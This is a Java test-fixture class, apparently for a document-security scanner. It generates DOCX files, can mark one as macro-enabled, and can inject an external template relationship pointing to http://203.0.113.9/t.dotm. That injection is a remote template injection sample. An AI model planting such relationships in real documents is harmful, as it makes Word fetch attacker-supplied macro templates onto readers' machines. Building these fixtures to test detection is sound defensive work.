package org.protectioncases.legal;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.function.UnaryOperator;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.apache.poi.xwpf.usermodel.XWPFParagraph;

/** Small DOCX files for tests, made with POI; and a way to rewrite one part of a DOCX (to make a .docm or add an external link). */
final class DocxFixtures {

    private DocxFixtures() {
    }

    /** One paragraph per argument; each paragraph's text is split into runs at every '|'. */
    static byte[] docx(String... paragraphs) {
        try (XWPFDocument doc = new XWPFDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            for (String text : paragraphs) {
                XWPFParagraph p = doc.createParagraph();
                for (String run : text.split("\\|", -1)) {
                    p.createRun().setText(run);
                }
            }
            doc.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** The DOCX with one zip entry's text changed. */
    static byte[] rewrite(byte[] docx, String entry, UnaryOperator<String> change) {
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(docx)); ByteArrayOutputStream bytes = new ByteArrayOutputStream();
             ZipOutputStream out = new ZipOutputStream(bytes)) {
            for (ZipEntry e = in.getNextEntry(); e != null; e = in.getNextEntry()) {
                byte[] content = in.readAllBytes();
                if (e.getName().equals(entry)) {
                    content = change.apply(new String(content, StandardCharsets.UTF_8)).getBytes(StandardCharsets.UTF_8);
                }
                out.putNextEntry(new ZipEntry(e.getName()));
                out.write(content);
                out.closeEntry();
            }
            out.finish();
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A macro-enabled document (.docm): the main part's content type says so, as Word writes it. */
    static byte[] macroEnabled(byte[] docx) {
        return rewrite(docx, "[Content_Types].xml", xml -> xml.replace(
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                "application/vnd.ms-word.document.macroEnabled.main+xml"));
    }

    /** A document whose template is fetched from another server when Word opens it (remote template injection). */
    static byte[] externalTemplate(byte[] docx) {
        return rewrite(docx, "word/_rels/document.xml.rels", xml -> xml.replace("</Relationships>",
                "<Relationship Id=\"rIdEvil\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
                        + " Target=\"http://203.0.113.9/t.dotm\" TargetMode=\"External\"/></Relationships>"));
    }
}
